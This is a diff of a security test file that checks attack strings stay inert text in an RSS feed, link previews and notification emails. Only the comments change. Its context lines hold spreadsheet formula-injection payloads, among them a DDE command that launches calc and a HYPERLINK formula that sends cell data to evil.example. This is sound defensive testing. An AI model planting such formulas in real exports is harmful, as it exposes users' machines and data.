@@ -17,7 +17,9 @@ import {
 } from './people.ts'
 import { newBlog } from './writing.ts'
 
-/** A spreadsheet runs what begins so; the wide ones where people write Chinese or Japanese. */
+/**
+ * A spreadsheet runs cells that begin with these characters. The wide characters count where people write Chinese or Japanese.
+ */
 const FORMULAS = [
   `=cmd|' /C calc'!A0`,
   `=HYPERLINK("https://evil.example?"&A1,"x")`,
@@ -32,7 +34,7 @@ const FORMULAS = [
 ]
 const DOWNLOAD = /^attachment; filename="[\w-]+(?:\.[\w-]+)*"$/
 
-/** Opens markup that leaves the site as a reader elsewhere does: on a page without a policy of ours. */
+/** Opens markup that leaves the site as an outside reader does: on a page without our content security policy. */
 async function read(page: Page, html: string) {
   const headers = { 'content-type': 'text/html; charset=utf-8' }
   await serverAnswers(page, '/reader', html, { headers, times: 1 })
@@ -44,7 +46,7 @@ test('SAFE-132 safety X3 attacks in the feed stay text in a reader without a pol
   page,
 }) => {
   const heard = await listenForAttacks(page)
-  // As many as the feed holds.
+  // The number of entries that the feed holds.
   const titles = attacks
     .filter((_, at) => at % 5 === 0)
     .slice(0, 30)
@@ -76,7 +78,7 @@ test('SAFE-132 safety X3 attacks in the feed stay text in a reader without a pol
   expect(feed.broken).toEqual([])
   const names = ['category', 'content:encoded', 'dc:creator', 'guid', 'link', 'pubDate', 'title']
   expect(feed.names).toEqual(names)
-  // The journeys beside this one publish attacks as well.
+  // Parallel journeys publish attacks as well.
   const written = (text: string) =>
     text
       .replace(/[\u202a-\u202e\u2066-\u2069]/g, '')
@@ -91,7 +93,7 @@ test('SAFE-132 safety X3 attacks in the feed stay text in a reader without a pol
   }
   expect(heard).toEqual([])
 
-  // What other sites show of a link: the words as they are, and a picture.
+  // A link preview on another site shows the words unchanged, and a picture.
   for (const link of feed.links) {
     const path = new URL(link).pathname
     await page.goto(path)
@@ -116,7 +118,7 @@ test('SAFE-132 safety X3 attacks in mails stay text, in their markup and in thei
   const [asha, ravi] = [await newMember(), await newMember()]
   const [own, theirs] = [await tokenOf(asha.email), await tokenOf(ravi.email)]
   for (const [at, attack] of attacks.filter((_, index) => index % 5 === 0).entries()) {
-    // Each is a name, and each is the title of a thread that somebody is told about.
+    // Each attack becomes a name, and the title of a thread for which somebody gets a notification.
     const person = await newSignup(cut(attack, 100))
     const { data } = await callApiAsAdmin('GET', `/approvals?q=${person.email}`)
     await callApiAsAdmin('POST', `/approvals/${data[0]?._id}/${at % 2 ? 'approve' : 'decline'}`)
